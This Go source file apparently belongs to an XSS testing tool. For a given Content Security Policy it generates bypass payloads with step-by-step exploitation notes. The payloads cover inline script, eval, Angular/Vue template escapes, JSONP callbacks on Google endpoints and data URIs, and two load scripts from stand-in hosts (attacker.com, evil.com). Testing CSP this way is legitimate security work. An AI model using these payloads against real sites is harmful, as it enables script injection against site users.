package csp

import (
	"encoding/base64"
	"fmt"
	"strings"

	"github.com/pyneda/xsslab/lib"
)

type Technique string

const (
	TechniqueUnsafeInline       Technique = "unsafe_inline"
	TechniqueUnsafeEval         Technique = "unsafe_eval"
	TechniqueJSONPCallback      Technique = "jsonp_callback"
	TechniqueAngularInjection   Technique = "angular_injection"
	TechniqueVueInjection       Technique = "vue_injection"
	TechniqueReactInjection     Technique = "react_injection"
	TechniqueScriptGadget       Technique = "script_gadget"
	TechniqueBaseURIInjection   Technique = "base_uri_injection"
	TechniqueLocationHash       Technique = "location_hash"
	TechniqueIframeSrcdoc       Technique = "iframe_srcdoc"
	TechniqueDataURI            Technique = "data_uri"
	TechniqueBlobURI            Technique = "blob_uri"
	TechniqueJavascriptURI      Technique = "javascript_uri"
	TechniqueWhitelistedDomain  Technique = "whitelisted_domain"
	TechniqueStrictDynamicAbuse Technique = "strict_dynamic_abuse"
	TechniqueNoncePrediction    Technique = "nonce_prediction"
	TechniqueHashCollision      Technique = "hash_collision"
	TechniqueMixedContent       Technique = "mixed_content"
	TechniqueFormActionBypass   Technique = "form_action_bypass"
	TechniqueMetaRefresh        Technique = "meta_refresh"
)

// Title turns "unsafe_inline" into "Unsafe Inline".
func (t Technique) Title() string {
	words := strings.Split(string(t), "_")
	for i, w := range words {
		if w != "" {
			words[i] = strings.ToUpper(w[:1]) + w[1:]
		}
	}
	return strings.Join(words, " ")
}

// BypassPayload is a payload expected to execute under the analyzed policy.
type BypassPayload struct {
	Technique          Technique   `json:"technique" yaml:"technique"`
	Payload            string      `json:"payload" yaml:"payload"`
	Description        string      `json:"description" yaml:"description"`
	Requirements       []string    `json:"requirements" yaml:"requirements"`
	Confidence         float64     `json:"confidence" yaml:"confidence"`
	AffectedDirectives []Directive `json:"affected_directives" yaml:"affected_directives"`
	Category           string      `json:"payload_category" yaml:"payload_category"`
	ExploitationSteps  []string    `json:"exploitation_steps" yaml:"exploitation_steps"`
}

func (b BypassPayload) String() string {
	return fmt.Sprintf("[%s] %.2f %s", b.Technique, b.Confidence, b.Payload)
}

func (b BypassPayload) Pretty() string {
	return fmt.Sprintf(
		"%sTechnique:%s %s\n%sConfidence:%s %s\n%sPayload:%s %s\n%sDescription:%s %s\n%sRequirements:%s %s\n",
		lib.Blue, lib.ResetColor, b.Technique.Title(),
		lib.Blue, lib.ResetColor, lib.ColorScore(b.Confidence, "%.2f"),
		lib.Blue, lib.ResetColor, b.Payload,
		lib.Blue, lib.ResetColor, b.Description,
		lib.Blue, lib.ResetColor, strings.Join(b.Requirements, "; "),
	)
}

func (b BypassPayload) TableHeaders() []string {
	return []string{"Technique", "Confidence", "Category", "Payload"}
}

func (b BypassPayload) TableRow() []string {
	return []string{string(b.Technique), fmt.Sprintf("%.2f", b.Confidence), b.Category, lib.Truncate(b.Payload, 70)}
}

type generator struct {
	technique Technique
	generate  func(p *Policy) []BypassPayload
}

// generators run in technique order. Techniques without a generator never
// produce bypasses.
var generators = []generator{
	{TechniqueUnsafeInline, unsafeInlineBypasses},
	{TechniqueUnsafeEval, unsafeEvalBypasses},
	{TechniqueJSONPCallback, jsonpBypasses},
	{TechniqueAngularInjection, angularBypasses},
	{TechniqueVueInjection, vueBypasses},
	{TechniqueScriptGadget, scriptGadgetBypasses},
	{TechniqueBaseURIInjection, baseURIBypasses},
	{TechniqueLocationHash, locationHashBypasses},
	{TechniqueIframeSrcdoc, iframeSrcdocBypasses},
	{TechniqueDataURI, dataURIBypasses},
	{TechniqueWhitelistedDomain, whitelistedDomainBypasses},
	{TechniqueStrictDynamicAbuse, strictDynamicBypasses},
	{TechniqueMetaRefresh, metaRefreshBypasses},
}

// scriptDirective is script-src, falling back to default-src.
func (p *Policy) scriptDirective() *DirectiveConfig {
	if d, ok := p.Directives[DirectiveScriptSrc]; ok {
		return d
	}
	return p.Directives[DirectiveDefaultSrc]
}

func (p *Policy) frameDirective() *DirectiveConfig {
	for _, d := range []Directive{DirectiveFrameSrc, DirectiveChildSrc, DirectiveDefaultSrc} {
		if cfg, ok := p.Directives[d]; ok {
			return cfg
		}
	}
	return nil
}

var scriptOnly = []Directive{DirectiveScriptSrc}

func unsafeInlineBypasses(p *Policy) []BypassPayload {
	script := p.scriptDirective()
	if script == nil || !script.HasKeyword(KeywordUnsafeInline) {
		return nil
	}
	reqs := []string{"'unsafe-inline' in script-src or default-src"}
	return []BypassPayload{
		{
			Technique:          TechniqueUnsafeInline,
			Payload:            `<script>alert("CSP Bypass - Unsafe Inline")</script>`,
			Description:        "Direct inline script execution via 'unsafe-inline'",
			Requirements:       reqs,
			Confidence:         0.95,
			AffectedDirectives: scriptOnly,
			Category:           "script",
			ExploitationSteps: []string{
				"1. Inject the payload into any HTML context",
				"2. The inline script will execute immediately",
				"3. No additional setup required due to 'unsafe-inline'",
			},
		},
		{
			Technique:          TechniqueUnsafeInline,
			Payload:            `<img src=x onerror="alert('CSP Bypass - Event Handler')">`,
			Description:        "Inline event handler execution via 'unsafe-inline'",
			Requirements:       reqs,
			Confidence:         0.9,
			AffectedDirectives: scriptOnly,
			Category:           "event_handler",
			ExploitationSteps: []string{
				"1. Inject payload in HTML content area",
				"2. Image load failure triggers onerror handler",
				"3. Inline JavaScript executes due to 'unsafe-inline'",
			},
		},
	}
}

func unsafeEvalBypasses(p *Policy) []BypassPayload {
	script := p.scriptDirective()
	if script == nil || !script.HasKeyword(KeywordUnsafeEval) {
		return nil
	}
	return []BypassPayload{
		{
			Technique:          TechniqueUnsafeEval,
			Payload:            `<script>eval("alert(\"CSP Bypass - Eval\")")</script>`,
			Description:        "Code execution via eval() function with 'unsafe-eval'",
			Requirements:       []string{"'unsafe-eval' in script-src", "Ability to inject script content"},
			Confidence:         0.9,
			AffectedDirectives: scriptOnly,
			Category:           "script",
			ExploitationSteps: []string{
				"1. Inject script tag with eval() call",
				"2. eval() executes due to 'unsafe-eval' permission",
				"3. String-based code execution achieved",
			},
		},
		{
			Technique:          TechniqueUnsafeEval,
			Payload:            `<script>Function("alert(\"CSP Bypass - Function Constructor\")")()</script>`,
			Description:        "Code execution via Function constructor with 'unsafe-eval'",
			Requirements:       []string{"'unsafe-eval' in script-src"},
			Confidence:         0.85,
			AffectedDirectives: scriptOnly,
			Category:           "script",
			ExploitationSteps: []string{
				"1. Use Function constructor to create executable code",
				"2. Function constructor allowed by 'unsafe-eval'",
				"3. Immediately invoke the created function",
			},
		},
	}
}

type domainEndpoint struct {
	domain, url string
}

var jsonpEndpoints = []domainEndpoint{
	{"googleapis.com", "https://accounts.google.com/o/oauth2/revoke?callback=alert"},
	{"google.com", "https://www.google.com/complete/search?client=chrome&jsonp=alert"},
	{"gstatic.com", "https://cse.google.com/api/cx/016652522511468994752:1y-bg_ij9_a/cse/suggest?callback=alert"},
}

func jsonpBypasses(p *Policy) []BypassPayload {
	script := p.scriptDirective()
	if script == nil {
		return nil
	}
	var out []BypassPayload
	for _, e := range jsonpEndpoints {
		if !script.SourceContains(e.domain) {
			continue
		}
		out = append(out, BypassPayload{
			Technique:          TechniqueJSONPCallback,
			Payload:            fmt.Sprintf(`<script src="%s"></script>`, e.url),
			Description:        "JSONP callback execution via whitelisted " + e.domain,
			Requirements:       []string{e.domain + " whitelisted in script-src", "Network access to domain"},
			Confidence:         0.8,
			AffectedDirectives: scriptOnly,
			Category:           "jsonp",
			ExploitationSteps: []string{
				"1. Inject script tag pointing to JSONP endpoint on " + e.domain,
				"2. JSONP endpoint calls specified callback function",
				"3. Callback parameter contains malicious JavaScript",
				"4. Code executes in page context",
			},
		})
	}
	return out
}

var (
	angularPatterns = []string{
		`{{constructor.constructor("alert(1)")()}}`,
		`{{$new.constructor("alert(1)")()}}`,
		`{{[].constructor.constructor("alert(1)")()}}`,
	}
	vuePatterns = []string{
		`{{constructor.constructor("alert(1)")()}}`,
		`{{$root.constructor.constructor("alert(1)")()}}`,
	}
)

func templateBypasses(p *Policy, technique Technique, patterns []string, framework string, confidence float64, steps []string) []BypassPayload {
	script := p.scriptDirective()
	if script == nil || !script.HasKeyword(KeywordUnsafeEval) {
		return nil
	}
	out := make([]BypassPayload, 0, len(patterns))
	for _, pattern := range patterns {
		out = append(out, BypassPayload{
			Technique:          technique,
			Payload:            pattern,
			Requirements:       []string{framework + " framework loaded", "'unsafe-eval' in CSP", "Template injection point"},
			Confidence:         confidence,
			AffectedDirectives: scriptOnly,
			Category:           "template_injection",
			ExploitationSteps:  steps,
		})
	}
	return out
}

func angularBypasses(p *Policy) []BypassPayload {
	out := templateBypasses(p, TechniqueAngularInjection, angularPatterns, "AngularJS", 0.7, []string{
		"1. Identify AngularJS template injection point",
		"2. Inject constructor-based payload",
		"3. AngularJS evaluates expression due to 'unsafe-eval'",
		"4. Constructor escape leads to code execution",
	})
	for i := range out {
		out[i].Description = "AngularJS template injection with constructor escape"
	}
	return out
}

func vueBypasses(p *Policy) []BypassPayload {
	out := templateBypasses(p, TechniqueVueInjection, vuePatterns, "Vue.js", 0.65, []string{
		"1. Find Vue.js template expression injection point",
		"2. Use constructor access to escape sandbox",
		"3. Vue.js evaluates expression with 'unsafe-eval'",
		"4. Achieve arbitrary code execution",
	})
	for i := range out {
		out[i].Description = "Vue.js template injection with constructor access"
	}
	return out
}

func scriptGadgetBypasses(p *Policy) []BypassPayload {
	script := p.scriptDirective()
	if script == nil || len(script.Sources) == 0 {
		return nil
	}
	gadgets := []struct {
		payload, description string
		requirements         []string
	}{
		{
			`<div id="1" data-url="javascript:alert('Script Gadget')"></div>`,
			"DOM-based script gadget via data attributes",
			[]string{"Vulnerable JavaScript framework", "DOM manipulation capability"},
		},
		{
			`<input id="gadget" value="alert('Script Gadget')" onfocus="eval(this.value)">`,
			"Form input script gadget with focus trigger",
			[]string{"Form input manipulation", "Focus event capability"},
		},
	}
	out := make([]BypassPayload, 0, len(gadgets))
	for _, g := range gadgets {
		out = append(out, BypassPayload{
			Technique:          TechniqueScriptGadget,
			Payload:            g.payload,
			Description:        g.description,
			Requirements:       g.requirements,
			Confidence:         0.4,
			AffectedDirectives: scriptOnly,
			Category:           "dom_manipulation",
			ExploitationSteps: []string{
				"1. Inject DOM elements with script gadget patterns",
				"2. Trigger DOM events or framework processing",
				"3. Vulnerable framework processes injected content",
				"4. Script execution occurs via DOM manipulation",
			},
		})
	}
	return out
}

func baseURIBypasses(p *Policy) []BypassPayload {
	if base, ok := p.Directives[DirectiveBaseURI]; ok && !base.HasKeyword(KeywordUnsafeInline) {
		return nil
	}
	return []BypassPayload{{
		Technique:          TechniqueBaseURIInjection,
		Payload:            `<base href="//attacker.com/"><script src="malicious.js"></script>`,
		Description:        "Base URI manipulation to load scripts from attacker domain",
		Requirements:       []string{"base-uri not restricted", "Ability to inject base tag"},
		Confidence:         0.6,
		AffectedDirectives: []Directive{DirectiveBaseURI, DirectiveScriptSrc},
		Category:           "base_manipulation",
		ExploitationSteps: []string{
			"1. Inject base tag pointing to attacker-controlled domain",
			"2. Inject relative script tag after base tag",
			"3. Browser resolves script src relative to malicious base",
			"4. Script loads from attacker domain bypassing CSP",
		},
	}}
}

// locationHashBypasses is always reported; its requirements carry the conditions.
func locationHashBypasses(*Policy) []BypassPayload {
	return []BypassPayload{{
		Technique:          TechniqueLocationHash,
		Payload:            `<script>eval(location.hash.slice(1))</script>#alert("Hash Bypass")`,
		Description:        "Location.hash evaluation for CSP bypass",
		Requirements:       []string{"'unsafe-eval' in script-src", "Control over URL fragment"},
		Confidence:         0.5,
		AffectedDirectives: scriptOnly,
		Category:           "hash_injection",
		ExploitationSteps: []string{
			"1. Inject script that evaluates location.hash",
			"2. Craft URL with malicious payload in fragment",
			"3. Script extracts and evaluates hash content",
			"4. Code execution via eval() with fragment data",
		},
	}}
}

func iframeSrcdocBypasses(p *Policy) []BypassPayload {
	frame := p.frameDirective()
	if frame == nil || !frame.SourceContains("data:") {
		return nil
	}
	return []BypassPayload{{
		Technique:          TechniqueIframeSrcdoc,
		Payload:            `<iframe srcdoc="<script>parent.alert('Iframe Srcdoc Bypass')</script>"></iframe>`,
		Description:        "Iframe srcdoc attribute bypass for script execution",
		Requirements:       []string{"iframe injection capability", "data: URI allowed in frame sources"},
		Confidence:         0.7,
		AffectedDirectives: []Directive{DirectiveFrameSrc, DirectiveChildSrc},
		Category:           "iframe_injection",
		ExploitationSteps: []string{
			"1. Inject iframe with srcdoc attribute",
			"2. Include malicious script in srcdoc content",
			"3. Iframe content executes in separate context",
			"4. Script can access parent window if same-origin",
		},
	}}
}

func dataURIBypasses(p *Policy) []BypassPayload {
	script := p.scriptDirective()
	if script == nil || !script.SourceContains("data:") {
		return nil
	}
	encoded := base64.StdEncoding.EncodeToString([]byte("alert('Data URI Bypass')"))
	return []BypassPayload{{
		Technique:          TechniqueDataURI,
		Payload:            fmt.Sprintf(`<script src="data:text/javascript;base64,%s"></script>`, encoded),
		Description:        "Data URI scheme bypass with base64 encoded JavaScript",
		Requirements:       []string{"data: URI allowed in script-src", "Base64 encoding support"},
		Confidence:         0.85,
		AffectedDirectives: scriptOnly,
		Category:           "data_uri",
		ExploitationSteps: []string{
			"1. Encode malicious JavaScript as base64",
			"2. Create data URI with JavaScript MIME type",
			"3. Inject script tag with data URI src",
			"4. Browser executes decoded JavaScript",
		},
	}}
}

var userContentHosts = []domainEndpoint{
	{"github.io", "https://username.github.io/repo/xss.js"},
	{"herokuapp.com", "https://evil-app.herokuapp.com/xss.js"},
	{"netlify.app", "https://evil-site.netlify.app/xss.js"},
	{"raw.githubusercontent.com", "https://raw.githubusercontent.com/user/repo/master/xss.js"},
}

func whitelistedDomainBypasses(p *Policy) []BypassPayload {
	script := p.scriptDirective()
	if script == nil {
		return nil
	}
	var out []BypassPayload
	for _, h := range userContentHosts {
		if !script.SourceContains(h.domain) {
			continue
		}
		out = append(out, BypassPayload{
			Technique:          TechniqueWhitelistedDomain,
			Payload:            fmt.Sprintf(`<script src="%s"></script>`, h.url),
			Description:        "Whitelisted domain abuse via " + h.domain,
			Requirements:       []string{"Control over content on " + h.domain, h.domain + " whitelisted in CSP"},
			Confidence:         0.6,
			AffectedDirectives: scriptOnly,
			Category:           "domain_abuse",
			ExploitationSteps: []string{
				"1. Upload malicious JavaScript to " + h.domain,
				"2. Inject script tag pointing to malicious resource",
				"3. Browser loads script from trusted " + h.domain,
				"4. Malicious code executes with full privileges",
			},
		})
	}
	return out
}

func strictDynamicBypasses(p *Policy) []BypassPayload {
	script := p.scriptDirective()
	if script == nil || !script.HasKeyword(KeywordStrictDynamic) {
		return nil
	}
	return []BypassPayload{{
		Technique:          TechniqueStrictDynamicAbuse,
		Payload:            `<script nonce="TRUSTED_NONCE">document.createElement("script").src="//evil.com/xss.js"</script>`,
		Description:        "'strict-dynamic' abuse via trusted script creating untrusted script",
		Requirements:       []string{"'strict-dynamic' in CSP", "Valid nonce or hash", "Script creation capability"},
		Confidence:         0.5,
		AffectedDirectives: scriptOnly,
		Category:           "strict_dynamic",
		ExploitationSteps: []string{
			"1. Inject trusted script with valid nonce/hash",
			"2. Use trusted script to create new script element",
			"3. Set malicious src on dynamically created script",
			"4. 'strict-dynamic' allows execution of created script",
		},
	}}
}

func metaRefreshBypasses(p *Policy) []BypassPayload {
	if p.Has(DirectiveNavigateTo) {
		return nil
	}
	return []BypassPayload{{
		Technique:          TechniqueMetaRefresh,
		Payload:            `<meta http-equiv="refresh" content="0;url=javascript:alert('Meta Refresh Bypass')">`,
		Description:        "Meta refresh redirection to javascript: URI",
		Requirements:       []string{"Meta tag injection capability", "navigate-to directive not set"},
		Confidence:         0.3,
		AffectedDirectives: []Directive{DirectiveNavigateTo},
		Category:           "navigation",
		ExploitationSteps: []string{
			"1. Inject meta refresh tag with javascript: URI",
			"2. Browser attempts to navigate to javascript: URL",
			"3. JavaScript protocol execution may occur",
			"4. Success depends on browser and CSP implementation",
		},
	}}
}
